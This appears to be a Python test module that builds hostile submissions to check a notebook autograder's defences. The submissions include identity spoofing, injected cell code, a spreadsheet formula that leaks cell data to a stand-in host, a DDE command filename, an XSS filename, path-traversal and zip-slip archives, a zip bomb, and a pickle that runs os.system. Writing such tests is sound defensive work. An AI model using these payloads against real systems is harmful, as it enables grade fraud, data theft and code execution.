"""Attacks that are in the file or its name rather than in an answer cell; each writes itself into a class folder when the test runs.

Some of these names and kinds of file cannot be kept in a repository.
"""

from __future__ import annotations

import copy
import io
import json
import os
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from .build import HONEST, Attack, dumped, notebook

VICTIM = "20260001"
UNKNOWN = "7700"
"""How the numbers begin that an attacker makes up."""
ATTACKS: list[FileAttack] = []


@dataclass(frozen=True)
class FileAttack(Attack):
    """An attack that is a file. ``status`` is that of its result (several with ``|``); ``""`` if it has none because it was not taken in."""

    put: Callable[[Path, FileAttack], None] = lambda folder, attack: None
    status: str = ""

    def path(self, folder: Path, suffix: str = ".ipynb") -> Path:
        return folder / f"{self.student}-{self.name}{suffix}"

    def honest(self, student: str | None = None) -> dict[str, Any]:
        return notebook(student or self.student, dict(HONEST))


def attack(
    earns: str = "", status: str = "", says: tuple[str, ...] = (), still: str = "others, class"
) -> Callable[[Callable[[Path, FileAttack], None]], None]:
    """Enter a function as the attack that it is named after; its docstring says what it tries."""

    def enter(put: Callable[[Path, FileAttack], None]) -> None:
        listed = tuple(HONEST) if earns == "honest" else tuple(earns.split())
        ATTACKS.append(
            FileAttack(
                put.__name__.replace("_", "-"),
                put.__doc__ or "",
                listed,
                says,
                tuple(still.split(", ")),
                put=put,
                status=status,
            )
        )

    return enter


def with_student(book: dict[str, Any], source: str) -> dict[str, Any]:
    """Return the notebook with another cell for the student number."""
    changed = copy.deepcopy(book)
    changed["cells"][0]["source"] = source
    return changed


def zipped(path: Path, files: dict[str, bytes], **about: int) -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            info = zipfile.ZipInfo(name, (2026, 11, 20, 8, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = about.get(Path(name).stem, 0o644) << 16
            archive.writestr(info, content)
    path.write_bytes(stream.getvalue())


@attack(status="number-taken")
def other_students_number(folder: Path, me: FileAttack) -> None:
    """Type another student's number, in a file that is newer than theirs."""
    me.path(folder).write_bytes(dumped(me.honest(VICTIM)))
    os.utime(me.path(folder), (2e9, 2e9))


@attack()
def another_number_without_a_name(folder: Path, me: FileAttack) -> None:
    """Type another student's number, in a newer file whose name says nothing of who sent it."""
    path = folder / f"{me.name}.ipynb"
    path.write_bytes(dumped(me.honest(VICTIM)))
    os.utime(path, (2e9, 2e9))


@attack(status="no-answer-cells", says=("intake.duplicate",))
def another_number_without_answers(folder: Path, me: FileAttack) -> None:
    """Type another student's number in a newer notebook without any answer cell, so that theirs counts as blank."""
    path = folder / f"{me.name}.ipynb"
    path.write_bytes(dumped(notebook(VICTIM, {})))
    os.utime(path, (2e9, 2e9))


@attack(status="number-taken")
def hidden_characters_in_the_number(folder: Path, me: FileAttack) -> None:
    """Type another student's number with full-width digits and characters that nobody sees, so that it looks like a new one."""
    typed = "".join(chr(ord(digit) + 0xFEE0) for digit in VICTIM[:4]) + "\u200b\u202e" + VICTIM[4:]
    me.path(folder).write_bytes(dumped(me.honest(typed)))
    os.utime(me.path(folder), (2e9, 2e9))


@attack(earns="honest", status="graded")
def code_in_the_parameters(folder: Path, me: FileAttack) -> None:
    """Put code into the cell for the student number and into the one that opens the chapter."""
    code = "open('answers.jsonl', 'a').write('LOOT')\nraise SystemExit('LOOT')"
    book = with_student(me.honest(), f'student = "{me.student}"\nload = print = None\n{code}')
    book["cells"][1]["source"] = f'{code}\nbegin("ch06_value", "en", "{VICTIM}")'
    me.path(folder).write_bytes(dumped(book))


@attack(earns="honest", status="graded")
def code_in_other_cells(folder: Path, me: FileAttack) -> None:
    """Add cells that are no answers, and answers to exercises that do not exist, to run code between the given cells."""
    book = me.honest()
    for place, name in enumerate(("", "__class__", "../abc-classes", "abc-decide\u200b", "constructor", "<script>")):
        source = (
            f"# exercise: {name}\n_record = lambda exercise: open('answers.jsonl', 'w').write('LOOT')\nraise SystemExit"
        )
        about = {"crm": {"role": "answer", "exercise": name}, "tags": ["parameters", "injected-parameters"]}
        book["cells"].insert(
            2,
            {
                "cell_type": "code",
                "id": f"{name}-answer",
                "metadata": about,
                "outputs": [],
                "execution_count": place,
                "source": source,
            },
        )
    me.path(folder).write_bytes(dumped(book))


@attack(earns="honest", status="graded|timeout", still="class")
def code_without_end(folder: Path, me: FileAttack) -> None:
    """Answer with code at which parsers give up: ninety thousand signs, lambdas in lambdas."""
    cells = {"abc-classes": f"x = {'-' * 90_000}1", "abc-gini": f"x = {'lambda: ' * 9_000}1"}
    me.path(folder).write_bytes(dumped(notebook(me.student, cells | HONEST)))


@attack(earns="honest", status="graded", says=('"outcome": "wrong"',), still="others, class")
def code_without_end_for_a_forged_answer(folder: Path, me: FileAttack) -> None:
    """Forge an answer to an exercise whose cell is code at which parsers give up, so that marking has to read that code."""
    forged = {"exercise": "abc-rule", "records": {"rule": {"state": "value", "value": {"top20": 0.5}}}}
    cells = {
        "abc-classes": f"print({json.dumps(forged)!r}, file=open('answers.jsonl', 'a'))",
        "abc-rule": f"{'-' * 90_000}1",
    }
    me.path(folder).write_bytes(dumped(notebook(me.student, cells | HONEST)))


@attack(status="no-student-number", still="book, page, class")
def formula_as_a_number(folder: Path, me: FileAttack) -> None:
    """Take a formula for a student number and for a file name, so that it lands in the gradebook."""
    book = with_student(me.honest(), 'student = \'=HYPERLINK("http://x.invalid?"&A1,"20260001")\'')
    (folder / f"=cmd|' C calc'!A0-{me.name}.ipynb").write_bytes(dumped(book))


@attack(status="no-student-number", still="files, class")
def path_as_a_number(folder: Path, me: FileAttack) -> None:
    """Take a path for a student number, so that the result is written over another one."""
    (folder / f"{me.name}.ipynb").write_bytes(dumped(me.honest("../../out/results/20260001")))


@attack(status="no-student-number", still="class")
def number_without_end(folder: Path, me: FileAttack) -> None:
    """Take a student number that Python can read and not write."""
    (folder / f"{me.name}.ipynb").write_bytes(dumped(with_student(me.honest(), f"student = 0x{'f' * 9000}")))


@attack(earns="honest", status="graded", still="page, book, class")
def script_in_the_file_name(folder: Path, me: FileAttack) -> None:
    """Hand in a file whose name is a script, with hidden characters that turn it round."""
    (folder / f"<img src=x onerror=alert(1)>\u202e\x1b[2J\n{{{{7*7}}}}-{me.student}-{me.name}.ipynb").write_bytes(
        dumped(me.honest())
    )


@attack(status="no-chapter", still="files, class")
def chapter_as_a_path(folder: Path, me: FileAttack) -> None:
    """Name a chapter that is a path to another file."""
    book = notebook(me.student, dict(HONEST), chapter="../../../out/results/20260001")
    me.path(folder).write_bytes(dumped(book))


@attack(earns="rfm-table", status="graded", still="others, class")
def forged_saved_answers(folder: Path, me: FileAttack) -> None:
    """Hand in saved answers of forms that have no shape that a form can give."""
    book = notebook(
        me.student,
        HONEST
        | {
            "abc-decide": 'c_class = form("abc-decide", "c_class")',
            "mvc-treat": 'treatment = form("mvc-treat", "treatment")',
        },
    )
    value: Any = "b"
    for _ in range(60):
        value = [{"key": value, "params": {}, "__class__": "str"}]
    answers = {
        "abc-decide": {"c_class": value, "__class__": [None]},
        "mvc-treat": {"treatment": {"zh": "a", "en": "a"}},
        "total": {"earned": 96},
    }
    saved = {
        "student": me.student,
        "chapter": "ch06_value",
        "answers": answers,
        "students": {VICTIM: {"answers": answers}},
        "total": 96,
    }
    zipped(
        me.path(folder, ".zip"),
        {"ch06_value.ipynb": dumped(book), "ch06_value.answers.json": json.dumps(saved).encode()},
    )


@attack(earns="honest", status="graded", still="others, class")
def saved_answers_of_another(folder: Path, me: FileAttack) -> None:
    """Hand in saved answers in another student's name, three times."""
    saved = json.dumps(
        {"student": VICTIM, "chapter": "ch06_value", "answers": {"abc-decide": {"c_class": "a"}}}
    ).encode()
    names = ("ch06_value.answers.json", f"{VICTIM}.answers.json", f"sub/{VICTIM}-ch06_value.answers.json")
    zipped(me.path(folder, ".zip"), {"ch06_value.ipynb": dumped(me.honest())} | dict.fromkeys(names, saved))


@attack(earns="honest", status="graded", says=("intake.surplus-beside",), still="others, class")
def numbers_without_end(folder: Path, me: FileAttack) -> None:
    """Pack two hundred notebooks into one archive, each under a number that nobody has and each busy to its limit."""
    made_up = [f"{UNKNOWN}{place:04}" for place in range(200)]
    busy = {number: notebook(number, {"abc-classes": "while True: pass"}) for number in made_up}
    # without an answer a notebook counts as blank, and is run too
    busy |= {number: notebook(number, {}) for number in made_up[::2]}
    zipped(
        me.path(folder, ".zip"),
        {f"{number}/ch06_value.ipynb": dumped(book) for number, book in (busy | {me.student: me.honest()}).items()},
    )


@attack(earns="honest", status="graded", still="files, class")
def archive_that_climbs(folder: Path, me: FileAttack) -> None:
    """Pack files that want to be unpacked over the results, and a link to the salt."""
    forged = json.dumps({"student": VICTIM, "total": 96}).encode()
    names = (
        "../../out/results/20260001.json",
        "../20260001-perfect.ipynb",
        "/tmp/crm-was-here.ipynb",
        "C:\\crm-was-here.ipynb",
        "..\\crm-was-here.ipynb",
    )
    zipped(
        me.path(folder, ".zip"),
        {"ch06_value.ipynb": dumped(me.honest()), "link.ipynb": b"../salt"} | dict.fromkeys(names, forged),
        link=0o120777,
    )


@attack(still="class")
def archive_bomb(folder: Path, me: FileAttack) -> None:
    """Pack a notebook of a hundred million blanks into some kilobytes, and that ten times in an archive."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("ch06_value.ipynb", b" " * 10**8)
    zipped(me.path(folder, ".zip"), {f"{place}.zip": stream.getvalue() for place in range(10)})


@attack(still="secrets, others, class")
def links_as_submissions(folder: Path, me: FileAttack) -> None:
    """Hand in links to another student's notebook and to the salt."""
    me.path(folder).symlink_to(f"{VICTIM}-perfect.ipynb")
    me.path(folder, "-salt.ipynb").symlink_to("../salt")
    me.path(folder, "-folder").symlink_to("..", target_is_directory=True)


@attack(still="class")
def pipe_as_a_submission(folder: Path, me: FileAttack) -> None:
    """Hand in a pipe that never ends."""
    os.mkfifo(me.path(folder))


@attack(earns="honest", status="graded", still="class")
def folders_as_submissions(folder: Path, me: FileAttack) -> None:
    """Hand in folders that are named like notebooks, archives and results."""
    for place in (me.path(folder), me.path(folder, ".zip"), me.path(folder, ".answers.json")):
        place.mkdir()
    (me.path(folder) / "ch06_value.ipynb").write_bytes(dumped(me.honest()))


class Trap:
    """Runs code when it is unpickled."""

    def __reduce__(self) -> Any:
        return os.system, ("touch /tmp/crm-was-here",)


@attack(status="not-a-notebook", still="files, processes, class")
def pickle_as_a_notebook(folder: Path, me: FileAttack) -> None:
    """Hand in a pickle that runs code when it is loaded."""
    me.path(folder).write_bytes(pickle.dumps(Trap()))


@attack(status="broken-json", still="class")
def brackets_without_end(folder: Path, me: FileAttack) -> None:
    """Hand in a notebook that is a million brackets deep."""
    me.path(folder).write_bytes(b'{"cells": ' + b"[" * 10**6)


@attack(still="others, files")
def results_as_submissions(folder: Path, me: FileAttack) -> None:
    """Hand in a result, a gradebook and manual marks, in the hope that they are taken for those of the class."""
    inner = me.path(folder, "")
    inner.mkdir()
    forged = json.dumps({"format": 1, "student": me.student, "total": 96, "status": "graded", "exercises": []})
    for name in (f"{VICTIM}.json", "gradebook.csv", "overrides.csv", "salt.txt"):
        (inner / name).write_text(
            forged
            if name.endswith("json")
            else f"student,exercise,marks\n{VICTIM},abc-classes,0\n{me.student},abc-classes,5\n"
        )
